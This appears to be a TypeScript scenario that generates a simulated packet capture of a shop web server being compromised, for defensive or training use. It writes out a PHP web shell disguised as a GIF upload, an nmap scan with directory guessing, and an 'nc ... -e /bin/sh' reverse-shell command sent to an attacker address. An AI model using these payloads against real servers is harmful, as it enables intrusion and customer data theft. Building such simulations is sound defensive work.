import { link, machine, segment } from '@/authoring/captures/places';
import { count, defineScenario, noneMalformed, values } from '@/authoring/captures/scenario';
import { randomBytes, seededRandom } from '@/authoring/captures/seeded-random';
import { serveCanned } from '@/authoring/captures/services/canned-web';

/**
 * A web server is looked over, takes a file that it should not take, answers commands through it, calls back, and
 * gives up its customer list. The “web shell” is a table of canned answers and the callback a script that prints what
 * a shell would print: no command that is sent is ever executed.
 */
const TOOL = 'Mozilla/5.0 (compatible; Nmap Scripting Engine)';
const ATTACKER = 'python-requests/2.31.0';
const contents = seededRandom(21);
const customers = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00', 'latin1'), randomBytes(contents, 41_000)]);

const answers: Readonly<Record<string, string>> = {
  id: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n',
  'uname%20-n': 'web1\n',
  'cat%20/var/www/config.php':
    "<?php\n$db_host = '10.20.0.5';\n$db_user = 'shop';\n$db_pass = 'not-a-real-password';\n",
  'ls%20/var/www/export': 'customers-2026-05.zip\n',
};
const dialogue = ['id', 'hostname', 'ls -l /var/www/export', 'exit'];
const script = `#!/bin/sh
printf 'sh-5.2$ '
while read -r line; do
  case "$line" in
    id) echo 'uid=33(www-data) gid=33(www-data) groups=33(www-data)' ;;
    hostname) echo web1 ;;
    ls*) echo '-rw-r--r-- 1 www-data www-data 41006 May 19 02:00 customers-2026-05.zip' ;;
    exit) exit 0 ;;
  esac
  printf 'sh-5.2$ '
done
`;

export default defineScenario({
  title: 'The web server that took a file',
  story: [
    'A small shop runs its web server in a network of its own, reachable from the internet.',
    'One night a machine on the internet takes an interest in the form through which customers send in pictures.',
    'The sensor sits between the router and the server.',
  ],
  starts: '2026-05-20T01:17:33Z',
  topology: {
    segments: [
      segment('internet', 'Internet', '203.0.113.0/24'),
      segment('dmz', 'Server network', '198.51.100.0/24'),
    ],
    hosts: [
      machine('visitor', 'machine on the internet', link('internet', ['203.0.113.77/24'], { delayMs: 18 }), {
        gateway: '203.0.113.1',
      }),
      machine('customer', 'an ordinary customer', link('internet', ['203.0.113.12/24'], { delayMs: 7 }), {
        gateway: '203.0.113.1',
      }),
      machine(
        'edge',
        'router of the shop',
        [link('internet', ['203.0.113.1/24']), link('dmz', ['198.51.100.1/24'])],
        { forwards: true },
      ),
      machine('web1', 'web server of the shop', link('dmz', ['198.51.100.20/24']), {
        gateway: '198.51.100.1',
      }),
    ],
  },
  tap: { segment: 'dmz', where: 'between router and web server', padded: true },
  howMade: {
    summary: 'Real nmap, curl, socat and a web server with canned answers; the web shell executes nothing.',
    tools: ['nmap', 'curl', 'socat', 'netcat', 'Node http'],
  },
  needs: ['nmap', 'curl', 'socat', 'nc', 'node', 'faketime'],

  async setup(stage) {
    const web = stage.host('web1');
    const shell = Object.fromEntries(
      Object.entries(answers).map(([command, body]) => [
        `GET /uploads/picture.php?c=${command}`,
        { headers: { 'content-type': 'text/plain' }, body, thinkingMs: 25 },
      ]),
    );
    await serveCanned(web, 80, {
      'GET /': {
        body: '<!doctype html><title>Picture frames</title><a href="/send.html">Send us a picture</a>',
      },
      'GET /send.html': {
        body: '<form method="post" action="/send.php" enctype="multipart/form-data"><input type="file" name="picture"></form>',
      },
      'POST /send.php': { body: 'Thank you. Your picture is at /uploads/picture.php\n', thinkingMs: 40 },
      ...shell,
      'GET /uploads/picture.php?c=*': { headers: { 'content-type': 'text/plain' }, body: '' },
      'GET /export/customers-2026-05.zip': {
        headers: { 'content-type': 'application/zip' },
        body: customers,
      },
    });
    await web.write('callback.sh', script, 0o755);
    await stage
      .host('visitor')
      .write(
        'picture.php',
        'GIF89a;\n<?php /* inert: the server that takes this file has canned answers only */ system($_GET["c"]); ?>\n',
      );
  },

  async run(stage) {
    const visitor = stage.host('visitor');
    const customer = stage.host('customer');
    const web = 'http://198.51.100.20';

    await customer.must(
      `curl -sS -o /dev/null ${web}/ -o /dev/null ${web}/send.html -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'`,
    );
    await stage.wait(500);

    // Which doors, and which pages?
    await visitor.must(
      'nmap -n -Pn -sS -p 21,22,25,80,443,3306,5432,8080,8443 --max-retries 1 198.51.100.20',
      { timeout: 60_000 },
    );
    for (const path of ['admin/', 'backup.zip', '.git/config', 'phpinfo.php', 'wp-login.php', 'send.html']) {
      await visitor.run(`curl -sS -o /dev/null -A '${TOOL}' ${web}/${path}`);
    }
    await stage.skip(210);

    // The form takes anything that begins like a picture.
    const curl = `curl -sS --max-time 15 -A '${ATTACKER}'`;
    await visitor.must(`${curl} -F 'picture=@${visitor.path('picture.php')};type=image/gif' ${web}/send.php`);
    await stage.skip(12);
    for (const command of Object.keys(answers)) {
      await visitor.must(`${curl} '${web}/uploads/picture.php?c=${command}'`);
      await stage.skip(4 + 9 * stage.random());
    }

    // The server is told to call back, and does.
    const spoken = dialogue.map((line) => `sleep 0.8; echo '${line}'`).join('; ');
    const listener = visitor.run(`(${spoken}; sleep 0.3) | nc -l -p 4444`, { timeout: 30_000 });
    if (!(await visitor.listens({ tcp: 4444 }))) throw new Error('the visitor does not listen');
    await visitor.must(`${curl} '${web}/uploads/picture.php?c=nc%20203.0.113.77%204444%20-e%20/bin/sh'`);
    await stage
      .host('web1')
      .must(`socat TCP:203.0.113.77:4444 EXEC:${stage.host('web1').path('callback.sh')}`);
    await listener;
    await stage.skip(30);

    // What it was about.
    await visitor.must(`${curl} -o /dev/null ${web}/export/customers-2026-05.zip`);
  },

  facts: {
    nothingMalformed: noneMalformed(),
    uploads: count('Files sent to the form.', 'http.request.method == "POST"', 1),
    commands: count('Requests that carry a command.', 'http.request.uri contains "picture.php?c="', 5),
    notFound: count('Pages that were guessed and do not exist.', 'http.response.code == 404', 5),
    callback: values(
      'The port to which the server calls back.',
      'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20',
      'tcp.dstport',
      ['4444'],
    ),
    attacker: values('Who uploaded.', 'http.request.method == "POST"', 'ip.src', ['203.0.113.77']),
    openPorts: values(
      'Ports that answered.',
      'tcp.flags.syn == 1 && tcp.flags.ack == 1 && ip.src == 198.51.100.20',
      'tcp.srcport',
      ['80'],
    ),
    taken: values(
      'What was taken.',
      'http.request.uri contains "zip" && http.user_agent contains "python"',
      'http.request.uri',
      ['/export/customers-2026-05.zip'],
    ),
    noRetransmission: count('Nothing was sent twice.', 'tcp.analysis.retransmission', 0),
  },
  comments: [
    { filter: 'http.request.method == "POST"', text: 'The upload: a PHP file that begins like a GIF.' },
    {
      filter: 'http.request.uri contains "picture.php?c="',
      which: 'every',
      text: 'A command to the web shell (canned answer).',
    },
    {
      filter: 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20',
      text: 'The callback: the server opens a connection outwards.',
    },
    { filter: 'http.request.uri contains "customers"', text: 'The data leaves.' },
  ],
});
